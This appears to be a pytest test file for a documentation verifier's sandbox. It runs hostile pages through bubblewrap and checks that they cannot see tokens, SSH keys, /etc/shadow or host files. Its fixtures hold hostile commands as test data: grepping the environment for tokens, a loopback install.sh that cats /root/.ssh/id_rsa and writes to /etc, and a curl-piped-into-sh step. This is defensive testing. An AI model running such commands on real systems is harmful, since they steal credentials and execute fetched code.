@@ -1,0 +1,250 @@
+"""The live tier runs a page's commands in `ShellSession`: a minimal environment, a private HOME
+and working directory, and a bubblewrap sandbox. Each hostile page of issue 17 is run through it
+here (no cluster needed) and must not see or change what it is not given."""
+
+from __future__ import annotations
+
+import functools
+import http.server
+import os
+import shutil
+import sys
+import tempfile
+import threading
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+
+from verify.live import sandbox as sandboxes
+from verify.live.redact import MASK, Redactor, host_values, kubeconfig_values
+from verify.live.sandbox import Sandbox, detect
+from verify.live.shell import FIXED, ShellSession, passed_env, session_env
+from verify.parsers import load_page
+
+ROOT = Path(__file__).resolve().parents[2]
+PAGES = Path(__file__).resolve().parent / "pages"
+TOKEN = "s3cr3t-ci-token-4f9a2c"
+KUBECTL = Path(sys.executable).parent / "kubectl"
+
+
+def needs_sandbox() -> None:
+    box = detect()
+    if not box.active:
+        if os.environ.get("CI") == "true":
+            pytest.fail(f"CI must run pages in a sandbox: {box.detail}")
+        pytest.skip(f"no sandbox on this machine: {box.detail}")
+
+
+@pytest.fixture
+def workdir() -> Iterator[Path]:
+    # Like the runner: a fresh directory under the system's temporary directory, removed afterwards.
+    path = Path(tempfile.mkdtemp(prefix="verify-test-page-"))
+    (path / ".kubeconfig").write_text("apiVersion: v1\nkind: Config\n", encoding="utf-8")
+    yield path
+    shutil.rmtree(path, ignore_errors=True)
+
+
+@pytest.fixture
+def host_secret(monkeypatch: pytest.MonkeyPatch) -> str:
+    monkeypatch.setenv("MY_CI_TOKEN", TOKEN)
+    return TOKEN
+
+
+def kubectl() -> Path:
+    return KUBECTL if KUBECTL.is_file() else Path(shutil.which("kubectl") or "/usr/bin/kubectl")
+
+
+def session(workdir: Path, box: Sandbox | None = None, passed: dict[str, str] | None = None) -> ShellSession:
+    return ShellSession(workdir, session_env(kubectl(), workdir / ".kubeconfig", workdir, passed), box)
+
+
+def hidden_command(page: str) -> str:
+    """The command of the page's hidden step, as the live tier would run it."""
+    (step,) = [s for s in load_page(PAGES / page, ROOT).steps if s.kind.value == "hidden-command"]
+    return step.commands[0]
+
+
+# -- the environment -----------------------------------------------------------------------------
+@pytest.mark.parametrize("confined", [True, False], ids=["sandbox", "environment-only"])
+def test_the_leaking_page_finds_no_token(workdir: Path, host_secret: str, confined: bool) -> None:
+    if confined:
+        needs_sandbox()
+    box = None if confined else Sandbox("none", "test")
+    command = hidden_command("leaking.md")
+    assert command == "env | grep -i token"
+    result = session(workdir, box).run(command, 30)
+    assert host_secret not in result.output
+    assert result.exit_code == 1  # grep found nothing at all
+
+
+def test_the_environment_is_the_allow_list_and_nothing_else(workdir: Path, host_secret: str) -> None:
+    result = session(workdir, Sandbox("none", "test")).run("env", 30)
+    names = {line.split("=", 1)[0] for line in result.output.splitlines() if "=" in line}
+    assert names - FIXED <= {"PWD", "OLDPWD", "SHLVL", "_"}, names - FIXED
+    assert f"HOME={workdir / '.home'}" in result.output
+    assert (workdir / ".home").is_dir()
+    path = next(line for line in result.output.splitlines() if line.startswith("PATH="))
+    assert path == f"PATH={kubectl().parent}:/usr/local/bin:/usr/bin:/bin:/usr/local/sbin:/usr/sbin:/sbin"
+
+
+def test_a_variable_passed_by_name_reaches_the_page_and_is_redacted(workdir: Path, host_secret: str) -> None:
+    passed = passed_env(["MY_CI_TOKEN"])
+    result = session(workdir, Sandbox("none", "test"), passed).run('echo "token is $MY_CI_TOKEN"', 30)
+    assert f"token is {host_secret}" in result.output
+    assert Redactor.for_page(load_page(PAGES / "leaking.md", ROOT))(result.output).strip() == f"token is {MASK}"
+
+
+def test_pass_env_refuses_fixed_and_missing_names() -> None:
+    with pytest.raises(ValueError, match="sets HOME itself"):
+        passed_env(["HOME"], {"HOME": "/root"})
+    with pytest.raises(ValueError, match="not set"):
+        passed_env(["NOPE"], {})
+
+
+def test_redaction_covers_every_value_of_the_host_environment() -> None:
+    environ = {"MY_CI_TOKEN": TOKEN, "AWS_SECRET_ACCESS_KEY": "wJalrXUtnFEMI/K7MDENG", "CI": "true",
+               "HOME": "/home/builder", "PEM": "-----BEGIN KEY-----\nMIIEvQIBADANBgkqhkiG9w0B\n-----END KEY-----"}
+    redact = Redactor.for_page(load_page(PAGES / "leaking.md", ROOT), environ)
+    text = f"MY_CI_TOKEN={TOKEN}\nkey wJalrXUtnFEMI/K7MDENG\nline MIIEvQIBADANBgkqhkiG9w0B\nCI=true in /home/builder"
+    assert redact(text) == f"MY_CI_TOKEN={MASK}\nkey {MASK}\nline {MASK}\nCI=true in /home/builder"
+    assert "true" not in host_values(environ)
+
+
+def test_redaction_covers_the_private_kubeconfig(workdir: Path) -> None:
+    config = workdir / "config"
+    config.write_text("users:\n- name: u\n  user:\n    token: abcdefgh12345678\n    client-key-data: LS0tLS1CRUdJTg==\n",
+                      encoding="utf-8")
+    assert set(kubeconfig_values(config)) == {"abcdefgh12345678", "LS0tLS1CRUdJTg=="}
+
+
+# -- the filesystem ------------------------------------------------------------------------------
+def test_the_page_that_reads_ssh_keys_reads_nothing(workdir: Path) -> None:
+    needs_sandbox()
+    command = hidden_command("reads-ssh.md")
+    shell = session(workdir)
+    result = shell.run(command, 30)
+    assert result.exit_code != 0 and "No such file or directory" in result.output
+    home = Path.home()
+    for path in (home, home / ".ssh", home / ".kube", ROOT / ".git", ROOT, Path("/root"), Path("/home")):
+        probe = shell.run(f"ls -a {path}", 30)
+        assert probe.exit_code != 0, f"{path} is visible in the sandbox:\n{probe.output}"
+    assert shell.run(f"cat {ROOT / '.git' / 'HEAD'}", 30).exit_code != 0
+
+
+def test_files_of_the_host_outside_the_allow_list_are_invisible(workdir: Path, tmp_path: Path) -> None:
+    needs_sandbox()
+    secret = tmp_path / "secret.txt"
+    secret.write_text(TOKEN, encoding="utf-8")
+    result = session(workdir).run(f"cat {secret}; cat /etc/shadow; ls /run /sys /var/lib", 30)
+    assert TOKEN not in result.output
+    assert "root:" not in result.output
+
+
+def test_the_page_that_writes_outside_its_directory_changes_nothing(workdir: Path) -> None:
+    needs_sandbox()
+    marker = f"verify-owned-{os.getpid()}"
+    targets = [Path("/etc") / marker, Path("/") / marker, Path("/usr/local") / marker, Path("/tmp") / marker]
+    try:
+        shell = session(workdir)
+        shell.run(f"echo owned>/etc/{marker}", 30)
+        shell.run("cd /", 30)
+        shell.run(f"touch {marker}; echo owned > /usr/local/{marker}", 30)
+        inside = shell.run(f"echo mine > /tmp/{marker}; cat /tmp/{marker}", 30)
+        assert inside.output.strip().endswith("mine")  # the page's /tmp is its own
+        for target in targets:
+            assert not target.exists(), f"the page wrote {target} on the host"
+        assert (workdir / ".tmp" / marker).is_file()
+    finally:
+        for target in targets:
+            target.unlink(missing_ok=True)
+
+
+def test_the_page_keeps_its_own_directory_and_home_between_commands(workdir: Path) -> None:
+    needs_sandbox()
+    shell = session(workdir)
+    assert shell.run("mkdir -p sub && cd sub && export GREETING=hello && echo x > ~/note", 30).exit_code == 0
+    result = shell.run('pwd; echo "$GREETING"; cat ~/note', 30)
+    assert result.output.split() == [str(workdir / "sub"), "hello", "x"]
+    assert (workdir / ".home" / "note").read_text() == "x\n"
+
+
+# -- the network and the processes ------------------------------------------------------------
+@pytest.fixture
+def loopback_server(tmp_path: Path) -> Iterator[str]:
+    (tmp_path / "install.sh").write_text(f"cat /root/.ssh/id_rsa; echo token=$MY_CI_TOKEN; touch /etc/pwned-{os.getpid()}\n",
+                                         encoding="utf-8")
+    handler = functools.partial(http.server.SimpleHTTPRequestHandler, directory=str(tmp_path))
+    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
+    thread = threading.Thread(target=server.serve_forever, daemon=True)
+    thread.start()
+    yield f"http://127.0.0.1:{server.server_address[1]}"
+    server.shutdown()
+    server.server_close()
+
+
+def test_curl_piped_into_sh_reaches_loopback_and_is_contained(workdir: Path, loopback_server: str, host_secret: str) -> None:
+    needs_sandbox()
+    result = session(workdir).run(f"curl -fsS {loopback_server}/install.sh | sh", 30)
+    assert "token=" in result.output.splitlines()  # the script ran (loopback works) and found no token
+    assert host_secret not in result.output
+    assert not Path(f"/etc/pwned-{os.getpid()}").exists()
+
+
+def test_the_pinned_kubectl_runs_in_the_sandbox_first_on_path(workdir: Path) -> None:
+    needs_sandbox()
+    result = session(workdir).run("command -v kubectl; kubectl version --client", 60)
+    assert result.exit_code == 0 and "Client Version: v1." in result.output
+    assert result.output.splitlines()[0] == "/opt/verify/bin/kubectl"
+
+
+def test_no_capabilities_and_no_view_of_the_verifier(workdir: Path) -> None:
+    needs_sandbox()
+    result = session(workdir).run(f"grep CapEff /proc/self/status; test -e /proc/{os.getpid()}/environ && echo SEEN", 30)
+    assert "CapEff:\t0000000000000000" in result.output
+    assert "SEEN" not in result.output
+
+
+def test_timeouts_and_background_terminals_still_end_every_process(workdir: Path) -> None:
+    needs_sandbox()
+    shell = session(workdir)
+    result = shell.run("sleep 30", 1)
+    assert result.timed_out
+    background = shell.start_background("sleep 300")
+    assert background.running
+    assert shell.close() == []
+    assert not background.alive()
+
+
+# -- saying so ------------------------------------------------------------------------------------
+def test_this_machine_offers_bubblewrap_or_says_why_not() -> None:
+    box = detect()
+    assert box.describe().startswith("bubblewrap (" if box.active else "NONE: ")
+
+
+def test_no_bwrap_means_no_sandbox_and_the_reason(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(sandboxes.shutil, "which", lambda *a, **k: None)
+    sandboxes.detect.cache_clear()
+    try:
+        box = sandboxes.detect()
+    finally:
+        sandboxes.detect.cache_clear()
+    assert not box.active and "bwrap not found" in box.describe()
+    assert box.wrap(["true"], Path("/tmp")) == ["true"]
+
+
+def test_the_live_command_line_says_which_sandbox_and_can_require_one(monkeypatch: pytest.MonkeyPatch,
+                                                                      capsys: pytest.CaptureFixture[str]) -> None:
+    import argparse
+
+    from verify.cli import UsageError
+    from verify.live import cli as live_cli
+
+    monkeypatch.setattr(sandboxes, "detect", lambda: Sandbox("none", "bwrap not found"))
+    args = argparse.Namespace(pass_env=[], require_sandbox=False)
+    assert not live_cli._sandbox(args).active
+    assert "sandbox: NONE: bwrap not found" in capsys.readouterr().out
+    with pytest.raises(UsageError, match="--require-sandbox"):
+        live_cli._sandbox(argparse.Namespace(pass_env=[], require_sandbox=True))
+    with pytest.raises(UsageError, match="--pass-env NOT_SET_ANYWHERE"):
+        live_cli._sandbox(argparse.Namespace(pass_env=["NOT_SET_ANYWHERE"], require_sandbox=False))
